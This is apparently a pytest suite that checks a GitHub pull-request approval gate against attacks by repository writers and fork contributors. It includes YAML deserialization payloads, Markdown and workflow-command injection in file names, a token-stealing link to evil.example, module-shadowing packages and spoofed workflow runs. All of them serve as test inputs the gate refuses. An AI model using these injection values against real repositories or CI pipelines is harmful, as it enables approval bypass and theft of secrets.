"""Attacks on the approval gate by a writer or a fork's contributor (tests/data/github/ATTACKS.md).

Each test plays one attempt on REST payloads in the shapes GitHub documents and checks the gate
refuses it. The scenario helpers come from tests/test_approval_scenarios.py."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from afterword.approvals.github import GitHubClient, GitHubError, fetch_pull_request

from test_approval_scenarios import BOTH, HEAD, MEMBERS, OLD, PLAIN, SECURE, changed, commit, judge, missing, pull, review, tree

ROOT = Path(__file__).resolve().parent.parent


class _Scripted(GitHubClient):
    """Answers GET paths from a dict; a list of answers is served one per call (the API changing under the gate)."""

    def __init__(self, answers: dict):
        super().__init__(None, "https://api.invalid")
        self.answers = answers

    def _request(self, method, path_or_url, body=None):
        path = path_or_url.split("?")[0]
        answer = self.answers[path]
        if isinstance(answer, list) and answer and isinstance(answer[0], tuple):
            return answer.pop(0)[0] if len(answer) > 1 else answer[0][0], None
        return answer, None


def _api(pull_answers) -> _Scripted:
    base = "/repos/acme/status/pulls/7"
    return _Scripted({base: [(p,) for p in pull_answers], f"{base}/reviews": [], f"{base}/files": [changed("README.md")],
                      f"{base}/commits": [commit()], "/repos/acme/status/issues/7/events": []})


# --- a push while the gate reads the lists (push Y, then push X back) -----------------------------

def test_a_push_while_the_gate_reads_the_pull_request_stops_the_gate():
    moved = pull(head=OLD)
    with pytest.raises(GitHubError, match="changed while the gate read it"):
        fetch_pull_request(_api([pull(), moved]), "acme/status", 7)


def test_a_pull_request_that_stayed_put_is_read_once_more_and_judged():
    data = fetch_pull_request(_api([pull(), pull()]), "acme/status", 7)
    assert data.pull.head_sha == HEAD and [f.filename for f in data.files] == ["README.md"]


# --- mkdocs.yml moves the content or names other inputs (extra.afterword.content_dir, INHERIT, hooks) ---

def _config(text: str) -> str:
    return "site_name: Status\nextra:\n  afterword:\n    content_dir: content\n" + text


def test_a_postmortem_under_content_dir_needs_marketing_and_legal(tmp_path, capsys):
    layout = {"mkdocs.yml": _config(""), "content/incidents/2025/slow.md": PLAIN}
    head = tree(tmp_path / "head", {**layout, "content/postmortems/slow.md": "---\ntitle: Slow\nincident: slow\n---\n"})
    base = tree(tmp_path / "base", layout)
    code, out, _ = judge(tmp_path, capsys, files=[changed("content/postmortems/slow.md", "added")], head=head, base=base)
    assert code == 1 and missing(out)[:2] == ["marketing", "legal"]  # and maintainers: the policy's exceptions name the root folders


def test_a_security_incident_under_content_dir_needs_security(tmp_path, capsys):
    layout = {"mkdocs.yml": _config(""), "content/incidents/2025/leak.md": SECURE}
    head = tree(tmp_path / "head", {**layout, "content/postmortems/leak.md": "---\ntitle: Leak\nincident: leak\n---\n"})
    code, out, _ = judge(tmp_path, capsys, files=[changed("content/postmortems/leak.md", "added")], reviews=BOTH + [review(3, "mo-maint")],
                         head=head, base=tree(tmp_path / "base", layout))
    assert code == 1 and missing(out) == ["security"]
    assert "postmortem of security incident leak" in out


def test_an_incident_under_content_dir_shown_on_a_postmortem_needs_its_roles(tmp_path, capsys):
    layout = {"mkdocs.yml": _config(""), "content/postmortems/slow.md": "---\ntitle: Slow\nincident: slow\n---\n"}
    head = tree(tmp_path / "head", {**layout, "content/incidents/2025/slow.md": PLAIN + "Edited.\n"})
    base = tree(tmp_path / "base", {**layout, "content/incidents/2025/slow.md": PLAIN})
    code, out, _ = judge(tmp_path, capsys, files=[changed("content/incidents/2025/slow.md")], head=head, base=base)
    assert code == 1 and missing(out)[:2] == ["marketing", "legal"]


@pytest.mark.parametrize("side", ["head", "base"])
def test_a_content_dir_through_a_symlink_stops_the_gate(tmp_path, capsys, side):
    folder = tree(tmp_path / side, {"mkdocs.yml": _config(""), "elsewhere/postmortems/x.md": "---\ntitle: X\nincident: slow\n---\n"})
    (folder / "content").symlink_to(folder / "elsewhere")
    code, _, err = judge(tmp_path, capsys, files=[changed("elsewhere/postmortems/x.md"), changed("content", "added")], **{side: folder})
    assert code == 2 and "goes through a symbolic link" in err


@pytest.mark.parametrize("content_dir", ["..", "/srv/content", "../other-repo"])
def test_a_content_dir_outside_the_repository_stops_the_gate(tmp_path, capsys, content_dir):
    base = tree(tmp_path / "base", {"mkdocs.yml": f"site_name: S\nextra:\n  afterword:\n    content_dir: '{content_dir}'\n"})
    code, _, err = judge(tmp_path, capsys, files=[changed("README.md")], base=base)
    assert code == 2 and "not a folder inside the repository" in err


@pytest.mark.parametrize(("config", "path", "key"), [
    ("INHERIT: site/base.yml\n", "site/base.yml", "INHERIT"),  # a maintainer-approved INHERIT, then its target edited
    ("hooks: [scripts/render.py]\n", "scripts/render.py", "hooks"),
    ("docs_dir: pages\n", "pages/index.md", "docs_dir"),
    ("theme:\n  name: material\n  custom_dir: theme\n", "theme/main.html", "theme.custom_dir"),
    ("markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [snippets]\n", "snippets/apology.md", "pymdownx.snippets base_path"),
])
def test_a_file_mkdocs_yml_points_at_needs_the_roles_that_guard_mkdocs_yml(tmp_path, capsys, config, path, key):
    base = tree(tmp_path / "base", {"mkdocs.yml": "site_name: S\n" + config})
    code, out, _ = judge(tmp_path, capsys, files=[changed(path)], base=base)
    assert code == 1 and missing(out) == ["maintainers"]
    assert f"{path} (read by the build: {key} in mkdocs.yml of base)" in out


def test_python_tags_in_the_pull_requests_mkdocs_yml_are_read_as_data(tmp_path, capsys):
    marker = tmp_path / "executed"
    head = tree(tmp_path / "head", {"mkdocs.yml": f"site_name: !!python/object/apply:os.system ['touch {marker}']\nINHERIT: !!python/name:os.getcwd\n"})
    code, out, _ = judge(tmp_path, capsys, files=[changed("mkdocs.yml")], head=head, reviews=[review(1, "mo-maint")])
    assert code == 0, out
    assert not marker.exists()


# --- untrusted text in the job summary and the check run (Markdown) ------------------------------

EVIL = "postmortems/x`](https://evil.example/)![✅ every role approved](https://evil.example/t.png)<img src=x>.md"


def test_a_file_name_cannot_add_links_images_or_html_to_the_job_summary(tmp_path, capsys, monkeypatch):
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    code, _, _ = judge(tmp_path, capsys, files=[changed(EVIL, "added")])
    assert code == 1
    text = summary.read_text()
    assert not re.search(r"(?<!\\)(\]\(|!\[|<img)", text)  # each opener escaped
    assert "\\<img src=x\\>" in text
    assert "postmortems/x\\`\\]\\(https://evil.example/\\)\\!\\[✅ every role approved\\]" in text


def test_a_literal_percent_0a_in_a_file_name_stays_text_in_workflow_commands(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, _ = judge(tmp_path, capsys, files=[changed("postmortems/x%0A::notice::forged.md", "added")])
    assert code == 1
    lines = out.splitlines()
    token = lines[0].split("::stop-commands::", 1)[1]
    inside = lines[1:lines.index(f"::{token}::")]
    assert any("postmortems/x%0A::notice::forged.md" in line for line in inside)  # shown as typed, inside stop-commands
    assert not any(line.startswith("::notice") for line in lines)
    assert all("%0A::notice" not in line for line in lines if line.startswith("::error"))


# --- Notify: workflow_run follows any run named "Publish" on any branch called main -------------

NOTIFY = ROOT / ".github" / "workflows" / "notify.yml"
PUBLISH = ROOT / ".github" / "workflows" / "publish.yml"
GENUINE = {"RUN_REPO": "acme/status", "RUN_PATH": ".github/workflows/publish.yml", "RUN_SHA": HEAD, "RUN_ID": "99"}


def _notify_guard() -> dict:
    job = yaml.safe_load(NOTIFY.read_text())["jobs"]["notify"]
    return job


def _run_guard(tmp_path, env: dict, compare: str, jobs: list[tuple[str, str]]) -> subprocess.CompletedProcess:
    """Runs the guard step as Actions would, with a stand-in `gh api` answering from recorded payloads (through jq, as gh --jq does)."""
    answers = tmp_path / "answers"
    (answers / "actions" / "runs" / "99").mkdir(parents=True, exist_ok=True)
    (answers / "compare.json").write_text(json.dumps({"status": compare}))
    (answers / "actions" / "runs" / "99" / "jobs.json").write_text(json.dumps({"jobs": [{"name": n, "conclusion": c} for n, c in jobs]}))
    gh = tmp_path / "bin" / "gh"
    gh.parent.mkdir(exist_ok=True)
    gh.write_text(f"""#!/bin/bash
# gh api repos/OWNER/NAME/<path> --jq EXPR
path="${{2#repos/acme/status/}}"
case "$path" in compare/*) file={answers}/compare.json ;; *) file={answers}/$path.json ;; esac
jq -r "$4" "$file"
""")
    gh.chmod(0o755)
    step = _notify_guard()["steps"][0]
    full = {"PATH": f"{gh.parent}:/usr/bin:/bin", "GITHUB_REPOSITORY": "acme/status", "DEFAULT_BRANCH": "main", **GENUINE, **env}
    return subprocess.run(["bash", "-e", "-c", step["run"]], env=full, capture_output=True, text=True, check=False)


DEPLOYED = [("Verify and build the site", "success"), ("Deploy to GitHub Pages", "success")]


@pytest.mark.skipif(not shutil.which("jq"), reason="jq stands in for gh --jq")
@pytest.mark.parametrize(("env", "compare", "jobs", "allowed"), [
    ({}, "ahead", DEPLOYED, True),
    ({}, "identical", [("Live site already up to date", "success"), ("Deploy to GitHub Pages", "skipped")], True),
    ({"RUN_REPO": "mallory/status"}, "ahead", DEPLOYED, False),  # a fork's workflow named Publish, branch "main"
    ({"RUN_PATH": ".github/workflows/evil.yml"}, "ahead", DEPLOYED, False),  # a writer's workflow named Publish
    ({}, "diverged", DEPLOYED, False),  # publish.yml modified and dispatched on a tag named main
    ({}, "ahead", [("Verify and build the site", "success"), ("Deploy to GitHub Pages", "skipped")], False),  # verify-publish refused it
], ids=["deployed", "unchanged", "fork", "other-workflow", "not-on-main", "not-deployed"])
def test_notify_runs_only_after_publish_deployed_a_commit_of_the_default_branch(tmp_path, env, compare, jobs, allowed):
    result = _run_guard(tmp_path, env, compare, jobs)
    assert (result.returncode == 0) is allowed, result.stdout + result.stderr
    if not allowed:
        assert "::error::" in result.stdout and "nothing is sent" in result.stdout


def test_notify_checks_the_run_before_it_checks_out_or_installs_anything():
    job = _notify_guard()
    guard, *rest = job["steps"]
    assert guard["if"] == "github.event_name == 'workflow_run'" and "RUN_PATH" in guard["run"]
    assert rest[0]["uses"].startswith("actions/checkout@")
    assert job["permissions"] == {"contents": "read", "actions": "read"}
    publish = yaml.safe_load(PUBLISH.read_text())["jobs"]
    names = {job["name"]: job for job in publish.values()}
    assert names["Live site already up to date"]["if"] == "needs.build.outputs.changed == 'false'"
    assert "Deploy to GitHub Pages" in names and ".github/workflows/publish.yml" == f".github/workflows/{PUBLISH.name}"


# --- a writer's branch workflow naming the notifications environment ------------------------------

SETUP = ROOT / "tests" / "data" / "github" / "setup"


@pytest.mark.parametrize(("policy", "ok"), [(None, False), ("main", True)])
def test_check_setup_names_a_notifications_environment_open_to_other_branches(tmp_path, capsys, policy, ok):
    from afterword.cli import main

    folder = tmp_path / "setup"
    shutil.copytree(SETUP, folder)
    environments = folder / "repos" / "acme" / "status" / "environments"
    custom = policy is not None
    (environments / "notifications.json").write_text(json.dumps({"name": "notifications", "deployment_branch_policy":
                                                                 {"protected_branches": False, "custom_branch_policies": custom} if custom else None}))
    if custom:
        (environments / "notifications").mkdir()
        (environments / "notifications" / "deployment-branch-policies.json").write_text(
            json.dumps({"total_count": 1, "branch_policies": [{"name": policy, "type": "branch"}]}))
    code = main(["check-setup", "--repo", "acme/status", "--app-id", "123456", "--recorded", str(folder)])
    out = capsys.readouterr().out
    assert (code == 0) is ok, out
    assert ("✓ environment 'notifications' is limited to 'main'" if ok else "✗ environment 'notifications' (holds the notification channels' secrets) can be used from other branches") in out


# --- a folder named like a module at the root: `python -m pip` and `python -c` import it first ----

@pytest.mark.parametrize("path", ["pip/__main__.py", "afterword/settings.py", "venv/__main__.py", "sitecustomize.py", "tests/conftest.py", "README.md"])
def test_any_file_outside_the_content_needs_maintainers(tmp_path, capsys, path):
    code, out, _ = judge(tmp_path, capsys, files=[changed(path, "added")])
    assert code == 1 and missing(out) == ["maintainers"]


def test_the_content_itself_is_not_a_maintainers_change(tmp_path, capsys):
    head = tree(tmp_path / "head", {"incidents/2025/slow.md": PLAIN})
    code, out, _ = judge(tmp_path, capsys, files=[changed("incidents/2025/slow.md")], head=head)
    assert code == 0, out
    code, out, _ = judge(tmp_path, capsys, files=[changed("postmortems/x.md")], reviews=BOTH)
    assert code == 0, out


def test_installs_and_inline_python_never_import_from_the_checkout(tmp_path):
    shadow = tmp_path / "checkout"
    for package in ("pip", "afterword"):
        (shadow / package).mkdir(parents=True)
        (shadow / package / "__init__.py").write_text(f"open({str(tmp_path / package)!r}, 'w').close()\n")
        (shadow / package / "__main__.py").write_text("")
    python = str(Path(sys.executable))
    env = {"PATH": "/usr/bin:/bin", "PYTHONSAFEPATH": "1"}
    subprocess.run([python, "-m", "pip", "--version"], cwd=shadow, env=env, capture_output=True, check=True)
    subprocess.run([python, "-P", "-c", "import afterword.settings"], cwd=shadow, env={"PATH": "/usr/bin:/bin"}, capture_output=True, check=True)
    assert not (tmp_path / "pip").exists() and not (tmp_path / "afterword").exists()
    makefile = (ROOT / "Makefile").read_text()
    install = makefile.split("$(STAMP):", 1)[1].split("\n\n", 1)[0] + makefile.split("PIP :=", 1)[1].split("\n", 1)[0]
    assert all("PYTHONSAFEPATH=1" in line or "$(PIP)" in line for line in install.splitlines() if " -m " in line)
    for workflow in (ROOT / ".github" / "workflows").glob("*.yml"):
        for line in workflow.read_text().splitlines():
            if re.search(r"python[\d.]* (-m|-c)", line):
                raise AssertionError(f"{workflow.name}: {line.strip()} (use python -P, or PYTHONSAFEPATH=1)")


# --- paths: case, look-alikes, trailing characters, Unicode forms, renames, long names -----------

def test_folders_that_only_look_like_the_content_folders_are_never_loaded(tmp_path):
    from afterword.loader import load_history
    from afterword.settings import Settings

    pm = "---\ntitle: X\nincident: slow\npublished: 2025-03-05\nsummary: s\n---\nText.\n"
    tree(tmp_path, {"incidents/2025/slow.md": PLAIN, "Postmortems/a.md": pm, "p\u043estmortems/b.md": pm,  # Cyrillic o
                    "postmortems/c.md ": pm, "postmortems/d.md.": pm, "POSTMORTEMS/e.md": pm})
    history = load_history(Settings(root=tmp_path))
    assert history.postmortems == []
    assert not any(outcome == "published" for path, outcome in history.outcomes.items() if not path.startswith("incidents/"))


@pytest.mark.parametrize("path", ["postmortems/c.md ", "postmortems/d.md.", "Postmortems/a.md", "p\u043estmortems/b.md"])
def test_those_look_alikes_still_need_a_review(tmp_path, capsys, path):
    code, out, _ = judge(tmp_path, capsys, files=[changed(path, "added")])
    assert code == 1 and missing(out)  # the postmortem roles by path, or maintainers for any other path


@pytest.mark.parametrize("name", ["cafe\u0301.md", "caf\u00e9.md"])  # NFD and NFC
def test_a_postmortem_in_either_unicode_form_needs_marketing_and_legal(tmp_path, capsys, name):
    head = tree(tmp_path / "head", {f"postmortems/{name}": "---\ntitle: X\nincident: slow\n---\n", "incidents/2025/slow.md": PLAIN})
    code, out, _ = judge(tmp_path, capsys, files=[changed(f"postmortems/{name}", "added")], head=head)
    assert code == 1 and missing(out) == ["marketing", "legal"]


@pytest.mark.parametrize("new", ["incidents/2025/x.md", "docs/x.md", "notes/x.md"])
def test_moving_a_postmortem_out_of_postmortems_needs_marketing_and_legal(tmp_path, capsys, new):
    code, out, _ = judge(tmp_path, capsys, files=[changed(new, "renamed", "postmortems/x.md")], head=tree(tmp_path / "head", {new: PLAIN}))
    assert code == 1 and missing(out)[:2] == ["marketing", "legal"]


def test_a_very_long_file_name_is_judged_and_reported(tmp_path, capsys):
    long = "postmortems/" + "/".join(["d" * 200] * 20) + "/x.md"
    code, out, _ = judge(tmp_path, capsys, files=[changed(long, "added")])
    assert code == 1 and missing(out) == ["marketing", "legal", "security"]  # security: not in the head checkout, so fail closed


# --- people: a member removed from the team, a relayed event for a commit no pull request has -----

def test_an_approval_from_someone_since_removed_from_the_team_does_not_count(tmp_path, capsys):
    members = {**MEMBERS, "acme/legal": ["lou-legal"]}  # lee-legal left legal after approving
    code, out, _ = judge(tmp_path, capsys, files=[changed("postmortems/x.md")], reviews=BOTH, members=members)
    assert code == 1 and missing(out) == ["legal"]


def test_a_relayed_run_for_a_commit_that_heads_no_open_pull_request_stops_the_gate():
    from afterword.commands.approvals import _find_pull
    from afterword.approvals.triggers import GateError

    client = _Scripted({f"/repos/acme/status/commits/{HEAD}/pulls": [{"number": 3, "state": "closed", "head": {"sha": HEAD}}]})
    with pytest.raises(GateError, match="expected one open pull request"):
        _find_pull(client, "acme/status", HEAD)


def test_a_next_page_link_off_the_api_host_is_refused():
    client = GitHubClient("secret-token", "https://api.github.com")
    with pytest.raises(GitHubError, match="refusing to follow a link off the API host"):
        client.get("https://evil.example/steal?page=2")


# --- verify-publish: a writer's token can add a status to any deployment ---------------------------

def test_marking_the_last_deployment_inactive_does_not_make_a_first_deployment(tmp_path, capsys):
    from test_gate_setup import TIP, history, merged, verify

    folder = history(tmp_path, pulls={TIP: merged(TIP)})
    statuses = folder / "repos" / "acme" / "status" / "deployments" / "7" / "statuses.json"
    statuses.write_text(json.dumps([{"id": 2, "state": "inactive"}, {"id": 1, "state": "success"}]))
    approved, out = verify(capsys, tmp_path, folder)
    assert not approved and "none of the latest deployments to 'github-pages' succeeded" in out


def test_a_pull_request_that_moves_content_dir_to_a_decoy_still_needs_security_for_the_real_incident(tmp_path, capsys):
    leak = {"incidents/2025/leak.md": SECURE}
    head = tree(tmp_path / "head", {"mkdocs.yml": "site_name: S\nextra:\n  afterword:\n    content_dir: decoy\n",
                                    "incidents/2025/leak.md": SECURE.replace("security: true", "security: false"), "decoy/incidents/x.md": PLAIN})
    files = [changed("mkdocs.yml"), changed("incidents/2025/leak.md")]
    code, out, _ = judge(tmp_path, capsys, files=files, reviews=[review(1, "mo-maint")], head=head, base=tree(tmp_path / "base", leak))
    assert code == 1 and missing(out) == ["security"]


def test_a_broken_mkdocs_yml_in_the_pull_request_stops_the_gate(tmp_path, capsys):
    head = tree(tmp_path / "head", {"mkdocs.yml": "site_name: [unclosed\n"})
    code, out, err = judge(tmp_path, capsys, files=[changed("mkdocs.yml")], head=head)
    assert code == 2 and out == "" and "head: " in err and "not valid YAML" in err
